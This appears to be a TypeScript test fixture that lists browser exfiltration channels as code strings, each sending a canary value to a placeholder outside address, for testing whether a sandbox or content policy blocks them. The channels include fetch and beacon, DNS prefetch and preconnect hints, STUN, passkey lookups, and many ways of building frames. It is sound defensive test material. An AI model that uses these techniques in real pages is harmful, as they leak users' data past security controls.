/**
 * What a hostile script may try, as the bodies of async functions of `url`, an address that nobody has business with. Each is tried
 * without the rules too, where it has to be seen. `has(FEATURE)` ends one that the browser has no means for.
 */

export const canary = 'cytodrop-canary-7f3a';

/** Ways out of any script. */
export const workerPlants: Record<string, string> = {
  fetch: `await fetch(url, { method: 'POST', mode: 'no-cors', body: '${canary}' });`,
  query: `await fetch(url + '?${canary}', { mode: 'no-cors' });`,
  websocket: `await new Promise((resolve) => { new WebSocket(url.replace('http', 'ws')).onerror = resolve; });`,
};

const make = (tag: string, property: string): string => `document.body.append(Object.assign(document.createElement('${tag}'), { ${property}: url }));`;
const hint = (rel: string): string => `document.head.append(Object.assign(document.createElement('link'), { rel: '${rel}', href: url }));`;
const frame = '`<iframe src="${url}"></iframe>`';
const spot = `const spot = document.body.appendChild(document.createElement('div'));`;
const inner = `const inner = document.body.appendChild(Object.assign(document.createElement('iframe'), { name: 'inner' + Math.random() }));`;
const form = `const form = document.body.appendChild(Object.assign(document.createElement('form'), { action: url, method: 'post' }));
  form.append(Object.assign(document.createElement('input'), { name: 'canary', value: '${canary}' }));`;

/** Ways out of a page that leave it standing. */
export const pagePlants: Record<string, string> = {
  ...workerPlants,
  beacon: `navigator.sendBeacon(url, '${canary}');`,
  image: `new Image().src = url;`,
  eventsource: `const source = new EventSource(url); source.onerror = () => source.close();`,
  stylesheet: hint('stylesheet'),
  script: make('script', 'src'),
  module: `await import(url);`,
  video: make('video', 'src'),
  font: `await new FontFace('canary', 'url(' + url + ')').load();`,
  background: `const sheet = new CSSStyleSheet(); sheet.replaceSync('body { background: url(' + url + ') }'); document.adoptedStyleSheets.push(sheet);`,

  frame: make('iframe', 'src'),
  'frame by setAttribute': `const made = document.createElement('iframe'); made.setAttribute('src', url); document.body.append(made);`,
  'frame by attribute node': `const made = document.createElement('iframe'); const src = document.createAttribute('src'); src.value = url; made.setAttributeNode(src); document.body.append(made);`,
  'frame by namespace': `document.body.append(Object.assign(document.createElementNS('http://www.w3.org/1999/xhtml', 'iframe'), { src: url }));`,
  'frame by innerHTML': `${spot} spot.innerHTML = ${frame};`,
  'frame by outerHTML': `${spot} spot.outerHTML = ${frame};`,
  'frame by insertAdjacentHTML': `document.body.insertAdjacentHTML('beforeend', ${frame});`,
  'frame by setHTMLUnsafe': `has('setHTMLUnsafe' in Element.prototype); ${spot} spot.setHTMLUnsafe(${frame});`,
  'frame by parseHTMLUnsafe': `has('parseHTMLUnsafe' in Document); document.body.append(Document.parseHTMLUnsafe(${frame}).querySelector('iframe'));`,
  'frame by DOMParser': `document.body.append(new DOMParser().parseFromString(${frame}, 'text/html').querySelector('iframe'));`,
  'frame by fragment': `document.body.append(document.createRange().createContextualFragment(${frame}));`,
  'frame by template': `const made = document.createElement('template'); made.innerHTML = ${frame}; document.body.append(made.content.cloneNode(true));`,
  'frame by execCommand': `${spot} spot.contentEditable = 'true'; spot.focus(); getSelection().selectAllChildren(spot); document.execCommand('insertHTML', false, ${frame} + 'x');`,
  'frame in a shadow': `${spot} spot.attachShadow({ mode: 'closed' }).innerHTML = ${frame};`,
  'frame by class': `class Made extends HTMLIFrameElement {} customElements.define('x-made', Made, { extends: 'iframe' });
    try { new Made(); } catch (error) { has(!String(error).includes('Illegal')); throw error; }
    document.body.append(Object.assign(new Made(), { src: url }));`,
  'frame of another document': `document.body.append(Object.assign(document.implementation.createHTMLDocument('').createElement('iframe'), { src: url }));`,
  'frame as a document': `document.body.append(Object.assign(document.implementation.createDocument('http://www.w3.org/1999/xhtml', 'iframe').documentElement, { src: url }));`,
  'frame by import': `document.body.append(document.importNode(Object.assign(document.createElement('iframe'), { src: url })));`,
  'frame by clone': `document.body.append(Object.assign(document.createElement('iframe'), { src: url }).cloneNode());`,
  'frame by XSLT': `has('XSLTProcessor' in window); const read = (text) => new DOMParser().parseFromString(text, 'application/xml'); const made = new XSLTProcessor();
    made.importStylesheet(read('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><iframe xmlns="http://www.w3.org/1999/xhtml" src="' + url + '"/></xsl:template></xsl:stylesheet>'));
    document.body.append(made.transformToFragment(read('<a/>'), document));`,
  'frame in srcdoc': `document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: ${frame} }));`,
  'location of a frame': `${inner} inner.contentWindow.location.href = url;`,
  'frame of a frame': `${inner} document.body.append(Object.assign(inner.contentDocument.createElement('iframe'), { src: url }));`,
  'link into a frame': `${inner} document.body.appendChild(Object.assign(document.createElement('a'), { href: url, target: inner.name })).click();`,
  'old frame': make('frame', 'src'),
  object: make('object', 'data'),
  embed: make('embed', 'src'),

  form: `const target = document.body.appendChild(Object.assign(document.createElement('iframe'), { name: 'formed' })); ${form} form.target = 'formed'; form.submit();`,
  'form in srcdoc': `const made = Object.assign(document.createElement('iframe'), { srcdoc: '<form action="' + url + '">' }); const loaded = new Promise((resolve) => { made.onload = resolve; });
    document.body.append(made); await loaded; made.contentDocument.forms[0].submit();`,

  prefetch: hint('prefetch'),
  ping: `document.body.appendChild(Object.assign(document.createElement('a'), { href: '#ping', ping: url })).click();`,
};

/** Beside so many requests Firefox makes no connection ahead of need. */
export const hintPlants: Record<string, string> = {
  preconnect: hint('preconnect'),
  'preconnect by setAttribute': `const made = document.createElement('link'); made.setAttribute('rel', 'preconnect'); made.setAttribute('HREF', url); document.head.append(made);`,
  'preconnect by setAttributeNS': `const made = document.createElement('link'); made.rel = 'preconnect'; made.setAttributeNS(null, 'href', url); document.head.append(made);`,
  'preconnect by attribute node': `const made = document.createElement('link'); made.rel = 'preconnect'; made.href = '#'; made.attributes.href.value = url; document.head.append(made);`,
  'preconnect by text of an attribute': `const made = document.createElement('link'); made.rel = 'preconnect'; made.href = '#'; made.attributes.href.textContent = url; document.head.append(made);`,
  'preconnect by innerHTML': `${spot} spot.innerHTML = '<link rel="preconnect" href="' + url + '">';`,
  'preconnect of the page’s own link': `const own = document.querySelector('link[rel=apple-touch-icon]'); own.rel = 'preconnect'; own.href = url;`,
};

/** Among so many frames Firefox does not come to these. */
export const refreshPlants: Record<string, string> = {
  'refresh in srcdoc': `document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: '<meta http-equiv=refresh content="0;url=' + url + '">' }));`,
  'refresh in data': `document.body.append(Object.assign(document.createElement('iframe'), { src: 'data:text/html,<meta http-equiv=refresh content="0;url=' + url + '">' }));`,
};

/** Seen by nothing but the name that is asked for. */
export const namePlants: Record<string, string> = {
  'dns-prefetch': `document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'x-dns-prefetch-control', content: 'on' })); ${hint('dns-prefetch')}`,
  stun: `has('RTCPeerConnection' in window); const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + new URL(url).host }] }); peer.createDataChannel('canary'); await peer.setLocalDescription();`,
  'stun of a frame': `${inner} has('RTCPeerConnection' in inner.contentWindow); const peer = new inner.contentWindow.RTCPeerConnection({ iceServers: [{ urls: 'stun:' + new URL(url).host }] });
    peer.createDataChannel('canary'); await peer.setLocalDescription();`,
  webtransport: `has('WebTransport' in window); await new WebTransport(url.replace('http:', 'https:')).ready;`,
  passkey: `has('PublicKeyCredential' in window && (await PublicKeyCredential.getClientCapabilities?.())?.relatedOrigins); await Promise.race([navigator.credentials.get({ publicKey: { rpId: new URL(url).hostname, challenge: new Uint8Array(16) } }), new Promise((resolve) => setTimeout(resolve, 900))]);`,
};

const link = `const link = Object.assign(document.createElement('a'), { href: url });`;
const svgLink = `const [image, link] = ['svg', 'a'].map((name) => document.createElementNS('http://www.w3.org/2000/svg', name)); link.setAttribute('href', url); image.append(link); document.body.append(image);`;
const press = (words = ''): string => `link.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true, composed: true${words} }));`;
const blob = (html: string): string => `URL.createObjectURL(new Blob([${html}], { type: 'text/html' }))`;
const refresh = `'<meta http-equiv="refresh" content="0;url=' + url + '">'`;

/** Ways into another window, by which what stands in the address leaves; this page stays. */
export const windowPlants: Record<string, string> = {
  'window.open': `window.open(url, '_blank', 'noopener');`,
  'document.open': `document.open(url, '_blank', '');`,
  'link into a window': `${link} document.body.append(link); link.target = '_blank'; link.click();`,
  'detached link into a window': `${link} link.target = '_blank'; link.click();`,
  'shadowed link into a window': `${link} link.target = '_blank'; ${spot} spot.attachShadow({ mode: 'closed' }).append(link); link.click();`,
  'SVG link into a window': `${svgLink} link.setAttribute('target', '_blank'); ${press()}`,
  'link into a window, turned late': `const link = Object.assign(document.createElement('a'), { href: '#', target: '_blank' }); link.onclick = () => { link.href = url; }; document.body.append(link); link.click();`,
  'link into a window, host turned late': `const link = Object.assign(document.createElement('a'), { href: '#', target: '_blank' }); link.onclick = () => { link.host = new URL(url).host; }; document.body.append(link); link.click();`,
  'link pressed with a key': `${link} document.body.append(link); ${press(', shiftKey: true')}`,
  'page of its own in a window': `const link = Object.assign(document.createElement('a'), { href: ${blob(refresh)} }); ${press(', shiftKey: true')}`,
  'form into a window': `${form} form.target = '_blank'; form.submit();`,
};

/** Ways to go elsewhere with something in the address. */
export const leavingPlants: Record<string, string> = {
  location: `location.href = url;`,
  refresh: `document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=' + url }));`,
  'page of its own': `location.href = ${blob(refresh)};`,
  link: `${link} document.body.append(link); link.click();`,
  'detached link': `${link} link.click();`,
  'SVG link': `${svgLink} ${press()}`,
  'open in place': `Document.prototype.open.call(document, url, '_self', '');`,
  'form away': `${form} form.requestSubmit();`,
  'form away by its button': `const form = document.body.appendChild(document.createElement('form')); const button = form.appendChild(Object.assign(document.createElement('button'), { formAction: url })); button.click();`,
};
